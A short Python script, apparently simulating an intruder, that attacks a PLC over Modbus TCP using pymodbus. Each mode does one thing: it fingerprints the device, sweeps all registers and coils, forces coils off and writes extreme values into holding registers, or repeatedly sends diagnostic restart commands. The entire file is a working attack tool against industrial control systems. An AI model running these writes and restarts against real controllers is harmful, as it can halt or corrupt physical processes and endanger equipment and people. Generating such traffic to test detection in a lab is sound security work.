"""What the intruder does to a PLC by Modbus. Usage: intruder.py identify|sweep|write|restart ADDRESS"""

import sys

from pymodbus.client import ModbusTcpClient
from pymodbus.exceptions import ModbusException


def identify(plc):
    for level in (1, 2, 3):  # function 43/14: basic, regular, extended
        plc.read_device_information(read_code=level, object_id=0, device_id=1)
    plc.report_device_id(device_id=1)  # function 17
    for unit in (2, 3, 7):
        plc.read_device_information(read_code=1, object_id=0, device_id=unit)


def sweep(plc):
    for first in range(0, 1250, 125):  # ends with reads behind the last register: exception 2
        plc.read_holding_registers(first, count=125, device_id=1)
        plc.read_input_registers(first, count=125, device_id=1)
    for first in range(0, 384, 64):
        plc.read_coils(first, count=64, device_id=1)
        plc.read_discrete_inputs(first, count=64, device_id=1)


def write(plc):
    for coil in range(8):
        plc.write_coil(coil, False, device_id=1)
    plc.write_coils(8, [False] * 16, device_id=1)
    plc.write_register(10, 9999, device_id=1)
    plc.write_registers(100, [0xFFFF] * 20, device_id=1)
    plc.mask_write_register(address=12, and_mask=0x00F2, or_mask=0x0025, device_id=1)
    plc.write_register(4000, 1, device_id=1)  # there is no such register: exception 2


def restart(plc):
    plc.diag_query_data(b"\x12\x34", device_id=1)  # function 8/0
    for _ in range(3):
        plc.diag_restart_communication(True, device_id=1)  # function 8/1


plc = ModbusTcpClient(sys.argv[2], port=502, timeout=2, retries=0)
if not plc.connect():
    sys.exit(f"no connection to {sys.argv[2]}")
try:
    {"identify": identify, "sweep": sweep, "write": write, "restart": restart}[sys.argv[1]](plc)
except ModbusException as problem:
    print(problem)
plc.close()
